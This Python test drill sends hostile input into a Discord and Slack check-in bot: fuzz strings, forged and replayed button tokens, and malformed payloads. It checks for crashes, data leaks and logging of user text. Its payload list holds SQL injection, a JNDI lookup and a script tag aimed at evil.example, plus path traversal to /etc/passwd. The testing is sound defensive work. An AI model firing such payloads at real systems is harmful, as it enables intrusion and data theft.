"""Drill 6 — hostile input: nasty strings in every command option and free-text field, malformed interactions,
forged and replayed button tokens, and another person's session token, all through the fake Discord into the
real bot process.

Promises (DESIGN): every event has an error boundary (no crash); a person only ever sees their own data; a
stale or foreign click gets a private "that check-in moved on"; nothing a person wrote is logged.
"""

from __future__ import annotations

import asyncio
import contextlib
import copy
import secrets
import time
from collections import Counter
from typing import Any

from drills.common import (
    SLACK_LISTENING,
    TOKEN,
    BotProcess,
    DrillDiscord,
    DrillResult,
    bot_environment,
    fresh_database,
    keygen,
    migrate,
    spread,
    wait_for_identify,
    workspace,
)
from tests.fakes.discord_server import PushedInteraction, SentMessage

VICTIM, ATTACKER, PROBER = 610_000_000_000_000_001, 610_000_000_000_000_002, 610_000_000_000_000_003
NASTY: list[tuple[str, str]] = [
    ("empty", ""),
    ("blank", "   \t  "),
    ("very long (4,000)", "A" * 4000),
    ("longer than Discord allows (6,000)", "ab" * 3000),
    ("control characters", "\x00\x01\x02\x1b[31mred\x1b[0m\x07\x7f end"),
    ("zero-width and bidi", "\u200b\u200c\u200d\ufeffhi\u202egnp.exe\u2066x\u2069"),
    ("lone surrogate", "before \udcff after"),
    ("mention injection", "@everyone @here <@123456789012345678> <@&234567890123456789> <#345678901234567890>"),
    ("link injection", "[click me](https://evil.example/steal) https://evil.example/?q=<script>alert(1)</script>"),
    ("markdown", "```\n**bold** ||spoiler|| # Heading\n> quote\n```"),
    ("sql", "'; DROP TABLE schedules; -- \" OR 1=1"),
    ("format strings", "{{7*7}} ${jndi:ldap://evil.example/a} %s%s%n {0.__class__}"),
    ("zalgo", "Z̷̢̛a̸̡͝l̵̨̛g̶̢͝o̴̧͝" * 40),
    ("a button token", "ci:AAAAAAAA:safety:3"),
    ("numbers", "9" * 400),
    ("bad dates", "2026-02-30 25:61 -1 weeks 99999 years"),
    ("path", "Europe/../../../etc/passwd"),
    ("json", '{"type": 3, "data": {"custom_id": "ci:x:y:z"}}'),
    ("newlines", "line1\r\nline2\n\n\n" * 50),
    ("emoji", "🫶🏽👩‍👩‍👧‍👦🏳️‍⚧️" * 100),
]
OPTIONS: list[tuple[str, str]] = [("tip", "topic"), ("schedule", "rule"), ("schedule", "timezone"), ("pause", "until"),
                                  ("vacation", "until"), ("checkin", "flow"), ("snooze", "when")]


class Observer:
    """Runs interactions and sorts every outcome: a reply, the generic apology, or nothing at all."""

    def __init__(self, fake: DrillDiscord, apology: str) -> None:
        self.fake = fake
        self.apology = apology[:40]
        self.outcomes: Counter[str] = Counter()
        self.unclear: list[str] = []
        self.ack_s: list[float] = []

    def _reply_texts(self, pushed: PushedInteraction) -> list[str]:
        texts = [m.content for m in self.fake.followups.get(pushed.id, [])]
        callback = self.fake.interaction_responses.get(pushed.id)
        if callback is not None:
            texts.append(callback.content)
            texts += [str(e.get("description") or "") for e in (callback.message.embeds if callback.message else [])]
        for message in self.fake.followups.get(pushed.id, []):
            texts += [str(e.get("description") or "") for e in message.embeds]
        return [t for t in texts if t]

    async def settle(self, pushed: PushedInteraction, label: str, *, expect_reply: bool = True) -> list[str]:
        try:
            callback = await self.fake.wait_for_callback(pushed, within=10)
            self.ack_s.append(asyncio.get_running_loop().time() - pushed.pushed_at)
        except TimeoutError:
            self.outcomes["no answer at all (Discord shows 'This interaction failed')"] += 1
            self.unclear.append(f"{label}: no answer")
            return []
        if callback.type in (5, 6):  # deferred: wait for the follow-up
            with contextlib.suppress(TimeoutError):
                await self.fake.wait_for_followup(pushed, within=15)
        texts = self._reply_texts(pushed)
        if callback.type == 9:
            self.outcomes["opened a form (modal)"] += 1
        elif callback.type == 8:
            self.outcomes["autocomplete suggestions"] += 1
        elif any(text.startswith(self.apology) for text in texts):
            self.outcomes["the generic apology ('something went wrong on my side')"] += 1
            self.unclear.append(f"{label}: the generic apology")
        elif texts:
            self.outcomes["a specific reply"] += 1
        elif expect_reply:
            self.outcomes["acknowledged, but no reply"] += 1
            self.unclear.append(f"{label}: acknowledged without any reply")
        return texts

    async def dm(self, user: int, text: str, label: str) -> list[str]:
        channel = self.fake.dm_channel_id(user)
        before = len(self.fake.messages.get(channel, []))
        await self.fake.user_message(user, text)
        try:
            await self.fake.wait_for_message(channel, before + 1, within=10)
            await asyncio.sleep(0.3)
        except TimeoutError:
            self.outcomes["no answer at all (Discord shows 'This interaction failed')"] += 1
            self.unclear.append(f"{label}: no reply to a DM")
            return []
        texts = [m.content for m in self.fake.messages[channel][before:]]
        if any(t.startswith(self.apology) for t in texts):
            self.outcomes["the generic apology ('something went wrong on my side')"] += 1
            self.unclear.append(f"{label}: the generic apology")
        else:
            self.outcomes["a specific reply"] += 1
        return texts


def component_payload(fake: DrillDiscord, user: int, custom_id: str, message: SentMessage) -> dict[str, Any]:
    """A click on `custom_id` by `user`, on a copy of `message` that carries such a button: what a forged or
    replayed click looks like once it reaches the bot (Discord itself would refuse most of them)."""
    base = fake._interaction_base(3, user, {"custom_id": custom_id, "component_type": 2}, guild_id=None,
                                  channel_id=fake.dm_channel_id(user), message=message)
    payload = copy.deepcopy(base.payload)
    payload["message"]["components"] = [{"type": 1, "id": 1, "components": [
        {"type": 2, "id": 2, "style": 1, "label": "x", "custom_id": custom_id}]}]
    return payload


def modal_payload(fake: DrillDiscord, user: int, custom_id: str, fields: dict[str, str],
                  message: SentMessage | None = None) -> dict[str, Any]:
    """A modal submission, as Discord sends it for a modal opened from a button on `message`."""
    data = {"custom_id": custom_id, "components": [
        {"type": 1, "id": index + 1, "components": [{"type": 4, "id": 100 + index, "custom_id": name, "value": value}]}
        for index, (name, value) in enumerate(fields.items())]}
    return copy.deepcopy(fake._interaction_base(5, user, data, guild_id=None, channel_id=fake.dm_channel_id(user),
                                                message=message).payload)


async def first_question(fake: DrillDiscord, observer: Observer, user: int, label: str) -> tuple[str, SentMessage]:
    pushed = await fake.slash_command(user, "checkin")
    await observer.settle(pushed, label)

    def found() -> tuple[str, SentMessage] | None:
        for message in fake.followups.get(pushed.id, []) + fake.messages.get(fake.dm_channel_id(user), []):
            for custom_id in message.custom_ids():
                if custom_id.startswith("ci:") and ":safety:" in custom_id and not message.deleted:
                    return custom_id.split(":")[1], message
        return None

    try:
        return await fake.wait_until(found, 15, f"{label}: the first question")
    except TimeoutError:
        raise RuntimeError(f"{label}: /checkin showed no first question; got "
                           f"{[m.content[:60] for m in fake.followups.get(pushed.id, [])]}") from None


async def run(quick: bool) -> DrillResult:
    corpus = NASTY[::3] if quick else NASTY
    result = DrillResult(
        "hostile", "hostile input", quick=quick,
        what=(f"One bot process; a victim with a private note and a schedule, an attacker, and a prober. {len(corpus)} "
              f"nasty strings (very long, control and zero-width characters, a lone surrogate, mention and link "
              f"injection, SQL, format strings, button-token look-alikes, ...) go into every string option of every "
              f"command ({len(OPTIONS)} options), into autocomplete, into DMs, into the check-in's free-text step "
              f"(modal) and into the schedule form; then malformed interactions (wrong types, missing fields), "
              f"forged and replayed button tokens, and the victim's own session token used by the attacker. "
              f"Afterwards: the process is alive and answers /help, nobody saw the victim's data, the log holds "
              f"none of it, no message could ping anyone. Then a Slack bot process in HTTP mode gets signed bodies "
              f"Slack never sends, timestamps and signatures Slack never sends, and a signed command replayed."))
    started = time.monotonic()
    secret = f"SECRET-{secrets.token_hex(6)}"
    async with DrillDiscord(token=TOKEN) as fake, fresh_database() as dsn, workspace("hostile") as folder:
        await migrate(dsn)
        bot = BotProcess("bot", bot_environment(fake, dsn, keygen(), folder), folder)
        await bot.start()
        await wait_ready(fake, bot)
        apology = load_text("error")
        observer = Observer(fake, apology)

        # The victim: a finished check-in with a private note, a schedule, and an open check-in.
        session, message = await first_question(fake, observer, VICTIM, "victim /checkin")
        await observer.dm(VICTIM, "skip", "victim skips safety")
        await observer.dm(VICTIM, "skip", "victim skips boundaries")
        pushed = await fake.push_interaction(modal_payload(fake, VICTIM, f"ci:{session}:note", {"text": secret},
                                                               message))
        await observer.settle(pushed, "victim's note")
        await observer.settle(await fake.slash_command(VICTIM, "schedule", {"rule": "mon 07:13",
                                                                            "timezone": "Pacific/Chatham"}),
                              "victim /schedule")
        open_session, open_message = await first_question(fake, observer, VICTIM, "victim's open /checkin")
        answered_token = f"ci:{session}:safety:2"

        # Every string option of every command, and autocomplete.
        for command, option in OPTIONS:
            for label, text in corpus:
                pushed = await fake.slash_command(PROBER, command, {option: text})
                await observer.settle(pushed, f"/{command} {option}={label}")
        for command, option in (("tip", "topic"), ("schedule", "timezone")):
            for label, text in corpus:
                pushed = await fake.autocomplete(PROBER, command, {option: text}, option)
                await observer.settle(pushed, f"autocomplete /{command} {option}={label}")
        # DMs outside a check-in, and the free-text step inside one (the modal), and the schedule form.
        for label, text in corpus:
            await observer.dm(PROBER, text or " ", f"DM {label}")
        for label, text in corpus:
            prober_session, prober_message = await first_question(fake, observer, PROBER,
                                                                  f"prober /checkin for {label}")
            await observer.dm(PROBER, "skip", "prober skips")
            await observer.dm(PROBER, "skip", "prober skips")
            pushed = await fake.push_interaction(modal_payload(fake, PROBER, f"ci:{prober_session}:note",
                                                               {"text": text[:4000]}, prober_message))
            await observer.settle(pushed, f"note modal {label}")
        form_message = prober_message
        for label, text in corpus:
            fields = {name: text[:100] for name in ("flow", "days", "times", "quiet", "zone")}
            pushed = await fake.push_interaction(modal_payload(fake, PROBER, "bb:formsubmit:schedule", fields,
                                                               form_message))
            await observer.settle(pushed, f"schedule form {label}")

        # Tokens: forged, replayed, and the victim's, used by the attacker.
        attacker_session, attacker_message = await first_question(fake, observer, ATTACKER, "attacker /checkin")
        forged = [f"ci:{secrets.token_urlsafe(9)}:safety:3", f"ci:{attacker_session}:nosuchstep:1",
                  f"ci:{attacker_session}:safety:99", f"ci:{attacker_session}:safety:../../x", "ci::safety:1",
                  "ci:" + "A" * 24 + ":" + "B" * 24 + ":" + "C" * 40, "bb:form:nosuchform", "bb:form:schedule",
                  "not-a-token", "ci:%00:safety:1"]
        for token in forged:
            pushed = await fake.push_interaction(component_payload(fake, ATTACKER, token, attacker_message))
            await observer.settle(pushed, f"forged click {token[:40]}", expect_reply=True)
        before_version = await session_version(dsn, open_session)
        victims_tokens = [answered_token, f"ci:{open_session}:safety:1", f"ci:{open_session}:safety:5"]
        foreign_replies: list[str] = []
        for token in victims_tokens:
            pushed = await fake.push_interaction(component_payload(fake, ATTACKER, token, attacker_message))
            foreign_replies += await observer.settle(pushed, f"attacker clicks victim's {token[:30]}")
        pushed = await fake.push_interaction(modal_payload(fake, ATTACKER, f"ci:{open_session}:note",
                                                           {"text": "attacker was here"}, attacker_message))
        foreign_replies += await observer.settle(pushed, "attacker submits victim's note modal")
        after_version = await session_version(dsn, open_session)
        replay = await fake.push_interaction(component_payload(fake, VICTIM, answered_token, open_message))
        replay_texts = await observer.settle(replay, "victim replays an answered button")

        # Malformed interactions: discord.py parses them before the adapter sees them. One that kills the
        # process is recorded, and the bot is started again (as a supervisor would) for the next one.
        malformed = malformed_payloads(fake, ATTACKER, attacker_message)
        parsed_out = 0
        killers: list[str] = []
        for label, payload in malformed:
            pushed = await fake.push_interaction(payload)
            try:
                await fake.wait_for_callback(pushed, within=3)
            except TimeoutError:
                parsed_out += 1
            if not bot.alive:
                killers.append(f"{label} (exit code {bot.process.returncode if bot.process else '?'})")
                await bot.start()
                await wait_for_identify(fake, fake.identify_count + 1, [bot])
        await asyncio.sleep(1.0)
        alive_before_raw = bot.alive
        help_probe = await fake.slash_command(PROBER, "help")
        help_texts = await observer.settle(help_probe, "/help after everything")

        # Leaks: everything anyone but the victim could see.
        seen_by_others = everything_seen_by(fake, {ATTACKER, PROBER})
        leaked = [text[:80] for text in seen_by_others if secret in text or "Chatham" in text or "07:13" in text]
        pinging = [m for m in all_messages(fake) if (m.allowed_mentions or {}).get("parse") not in ([], None)
                   or (m.allowed_mentions is None and "@everyone" in m.content)]
        log = bot.log_text()
        logged = [needle for needle in (secret, "DROP TABLE", "evil.example", "attacker was here", "jndi")
                  if needle in log]

        # Last: a frame that is not JSON at all (Discord never sends one; a broken proxy might).
        await fake.send_raw_frame("{this is not json")
        await asyncio.sleep(3.0)
        raw_alive = bot.alive
        raw_code = bot.process.returncode if bot.process else None
        errors = bot.error_lines()
        zone_errors = sorted({line.split(" at ", 1)[0].split(": ", 1)[-1] + " at " + line.split(" at ", 1)[1][:150]
                              for line in errors if "event Command on discord failed" in line and " at " in line})
        await bot.stop()

    result.numbers.update({
        "nasty strings": f"{len(corpus)}: " + ", ".join(label for label, _ in corpus),
        "interactions and DMs sent": str(sum(observer.outcomes.values()) + len(malformed)),
        "outcomes": str(dict(observer.outcomes)),
        "acknowledgement time": spread(observer.ack_s, "s", 3),
        "malformed interactions (dropped by discord.py before the adapter)": f"{parsed_out} of {len(malformed)}",
        "attacker's replies when using the victim's tokens": "; ".join(sorted({t[:70] for t in foreign_replies})),
        "victim's open session version before/after the attacker": f"{before_version} / {after_version}",
        "replayed answered button": "; ".join(t[:70] for t in replay_texts) or "no reply",
        "ERROR lines in the bot's log": str(len(errors)),
        "an unparsable gateway frame": "process alive" if raw_alive else f"process EXITED (code {raw_code})",
        "malformed interactions that ended the process": "; ".join(killers) or "none",
        "bot starts": str(bot.starts),
    })
    result.check("no crash", alive_before_raw and bool(help_texts) and not killers,
                 f"{len(killers)} of {len(malformed)} malformed interactions ended the process; "
                 f"/help at the end {'answered' if help_texts else 'NOT answered'}")
    result.check("no leak of another person's data", not leaked and before_version == after_version,
                 f"{len(leaked)} messages to others contained the victim's note or schedule; the victim's session "
                 f"{'unchanged' if before_version == after_version else 'CHANGED by the attacker'}")
    result.check("the log holds nothing anyone wrote", not logged,
                 "none of the planted strings in the log" if not logged else f"found in the log: {logged}")
    result.check("no message can ping anyone", not pinging,
                 f"{len(pinging)} messages without allowed_mentions parse=[]")
    result.check("clear replies", not observer.unclear,
                 f"{len(observer.unclear)} unclear: " + "; ".join(observer.unclear[:12]) if observer.unclear
                 else "every input got a specific reply")
    apologies = [item for item in observer.unclear if "apology" in item]
    silent = [item for item in observer.unclear if "no answer" in item or "without any reply" in item]
    if killers:
        result.findings.append(
            f"ONE MALFORMED EVENT ENDS THE WHOLE BOT: an INTERACTION_CREATE {'; '.join(killers)} makes discord.py's "
            f"gateway parser (discord/state.py parse_interaction_create) raise inside Client.connect(); the "
            f"exception leaves DiscordAdapter.run() and `boundary-bot run` exits, taking the scheduler with it. "
            f"The adapter's error boundary never sees the event (it is raised before on_interaction). This is the "
            f"opsdroid #1909 failure mode STYLE.md warns about. Real Discord always sends `data`, so it needs a "
            f"broken or hostile gateway path; still, expected: the process survives (catch around the parser, or "
            f"restart the client in a loop) and logs the event type only. Reproduce: push "
            f"{{'type': 3, ...}} without 'data' (drills/hostile.py malformed_payloads).")
    if zone_errors:
        result.findings.append(
            "Exceptions behind the apologies (from the bot's log, no user text): " + " | ".join(zone_errors[:3]))
    if apologies:
        result.findings.append(
            f"{len(apologies)} inputs reached the error boundary (the generic 'something went wrong on my side'), "
            f"i.e. raised inside the bot instead of getting a clear answer: " + "; ".join(apologies[:10])
            + ". Reproduce: `python -m drills --only hostile` (the outcomes are listed per input). Expected: a "
            "specific reply (e.g. 'I couldn't read that date').")
    if silent:
        result.findings.append(
            f"{len(silent)} inputs got no answer at all, so Discord shows 'This interaction failed': "
            + "; ".join(silent[:10]) + ". Expected: a private 'that button isn't valid any more'.")
    if not raw_alive:
        result.findings.append(
            f"An unparsable gateway frame ends the bot process (exit code {raw_code}): discord.py raises "
            f"JSONDecodeError out of Client.start() and `boundary-bot run` returns. Real Discord does not send "
            f"such frames, so this matters only behind a broken proxy; a supervisor (systemd, Docker restart "
            f"policy) brings it back, and scheduled prompts resume from the outbox.")
    result.limits.append("Discord itself refuses most forged clicks (a custom_id must exist on a message the user "
                         "can see); the drill hands them to the bot anyway, as a compromised or buggy client path "
                         "would.")
    await slack_outsiders(result)
    result.seconds = time.monotonic() - started
    return result


SLACK_GARBAGE: list[tuple[str, bytes, str]] = [
    ("payload=not-json", b"payload=not-json", "application/x-www-form-urlencoded"),
    ("payload holding a JSON array", b"payload=%5B1%2C2%5D", "application/x-www-form-urlencoded"),
    ("truncated payload", b"payload=%7B%22type%22%3A%22block_act", "application/x-www-form-urlencoded"),
    ("truncated form", b"command=%2Fboundary&text=check&user_id", "application/x-www-form-urlencoded"),
    ("JSON array", b"[1, 2]", "application/json"),
    ("truncated JSON", b'{"type": "event_callback", "event"', "application/json"),
    ("not UTF-8", b"\xff\xfe\xfd", "application/json"),
]


async def slack_outsiders(result: DrillResult) -> None:
    """The Slack HTTP endpoint as an outsider meets it: signed bodies Slack never sends (400), headers Slack never
    sends (401), and a signed slash command and click replayed byte for byte (run once)."""
    import aiohttp

    from drills.database import free_port
    from drills.slack_load import SECRET, slack_environment
    from tests.fakes.slack_server import FakeSlackApi, SlackRequests, slash_command

    async with FakeSlackApi() as fake, fresh_database() as dsn, workspace("hostile-slack") as folder:
        await migrate(dsn)
        port = free_port()
        bot = BotProcess("slack-bot", slack_environment(fake, dsn, keygen(), folder, port), folder, adapter="slack")
        await bot.start()
        try:
            await bot.logged(SLACK_LISTENING)
            url = f"http://127.0.0.1:{port}/slack/events"
            signer = SlackRequests(SECRET)
            outcomes: dict[str, int] = {}
            async with aiohttp.ClientSession() as http:

                async def send(label: str, body: bytes, headers: dict[str, str]) -> None:
                    async with http.post(url, data=body, headers=headers) as answer:
                        outcomes[label] = answer.status

                for label, body, content_type in SLACK_GARBAGE:
                    signed = signer._sign(body, content_type, None)
                    await send(f"signed {label}", signed.body, signed.headers)
                command = signer.command(slash_command(text="tip", channel_id=fake.dm_channel_for("U0REPLAY"),
                                                       user_id="U0REPLAY", response_url=fake.response_url("r")))
                for label, header, value in (("timestamp '²'", "X-Slack-Request-Timestamp", "17000000²"),
                                             ("Arabic-Indic timestamp", "X-Slack-Request-Timestamp", "١٧٠٠٠٠٠٠٠٠"),
                                             ("non-ASCII signature", "X-Slack-Signature", "v0=é")):
                    await send(label, command.body, {**command.headers, header: value})
                await send("signed command", command.body, command.headers)
                await send("the same command replayed", command.body, command.headers)
            expected_400 = [f"signed {label}" for label, _, _ in SLACK_GARBAGE]
            wrong = {label: status for label, status in outcomes.items()
                     if status != (400 if label in expected_400 else 200 if "command" in label else 401)}
            dm = fake.dm_channel_for("U0REPLAY")
            with contextlib.suppress(TimeoutError):
                await fake._wait(lambda: bool(fake.messages_in(dm)), 10.0)
            await asyncio.sleep(1.0)  # long enough for a second run of the replay to show
            tips = len(fake.messages_in(dm))
            errors = bot.error_lines()
        finally:
            alive = bot.alive
            await bot.stop()
    result.numbers["slack outsider requests"] = \
        f"{len(outcomes)} ({len(SLACK_GARBAGE)} garbage bodies, 3 bad headers, 1 replay)"
    result.check("slack: garbage and bad headers refused cleanly", not wrong and alive and not errors,
                 "every garbage body 400, every bad header 401, no ERROR or traceback in the log" if not wrong
                 and not errors else f"unexpected statuses {wrong}; log errors: {errors[:3]}")
    result.check("slack: a replayed request runs once", outcomes.get("the same command replayed") == 200 and tips == 1,
                 f"the replayed /boundary tip was acknowledged and answered {tips} time(s)")


async def wait_ready(fake: DrillDiscord, bot: BotProcess) -> None:
    await wait_for_identify(fake, 1, [bot])


def load_text(key: str) -> str:
    from bot.config import PROJECT_CONTENT
    from bot.content.loader import load_content

    return str(load_content(PROJECT_CONTENT).texts.get(key))


async def session_version(dsn: str, session: str) -> str:
    from drills.common import query

    rows = await query(dsn, "SELECT version, step_id, status FROM flow_sessions WHERE id = $1", session)
    return f"v{rows[0]['version']} {rows[0]['step_id']} {rows[0]['status']}" if rows else "missing"


def malformed_payloads(fake: DrillDiscord, user: int, message: SentMessage) -> list[tuple[str, dict[str, Any]]]:
    good = component_payload(fake, user, "ci:x:safety:1", message)
    cases: list[tuple[str, dict[str, Any]]] = []

    def variant(label: str, change: Any) -> None:
        payload = copy.deepcopy(good)
        payload["id"] = str(fake._snowflake())
        change(payload)
        cases.append((label, payload))

    variant("no data", lambda p: p.pop("data"))
    variant("custom_id is a number", lambda p: p["data"].update(custom_id=12345))
    variant("custom_id is null", lambda p: p["data"].update(custom_id=None))
    variant("unknown interaction type", lambda p: p.update(type=99))
    variant("no user", lambda p: p.pop("user"))
    variant("user id not a number", lambda p: p["user"].update(id="abc"))
    variant("components not a list", lambda p: p["message"].update(components="x"))
    variant("values on a button", lambda p: p["data"].update(values=[{"a": 1}]))
    variant("modal with garbage components", lambda p: p.update(type=5, data={"custom_id": "ci:x:note",
                                                                             "components": [{"type": "?"}, 7]}))
    variant("huge custom_id", lambda p: p["data"].update(custom_id="ci:" + "x" * 5000))
    return cases


def all_messages(fake: DrillDiscord) -> list[SentMessage]:
    messages = [m for channel in fake.messages.values() for m in channel]
    messages += [m for followups in fake.followups.values() for m in followups]
    return messages + [cb.message for cb in fake.interaction_responses.values() if cb.message is not None]


def everything_seen_by(fake: DrillDiscord, users: set[int]) -> list[str]:
    texts: list[str] = []
    for iid, interaction in fake.interactions.items():
        if interaction.user_id in users:
            for message in fake.followups.get(iid, []):
                texts.append(message.content + " " + str(message.embeds))
            callback = fake.interaction_responses.get(iid)
            if callback is not None:
                texts.append(callback.content + " " + str(callback.data))
    for user in users:
        channel = fake.dm_channels.get(user)
        texts += [m.content + " " + str(m.embeds) for m in fake.messages.get(channel, [])] if channel else []
    return texts
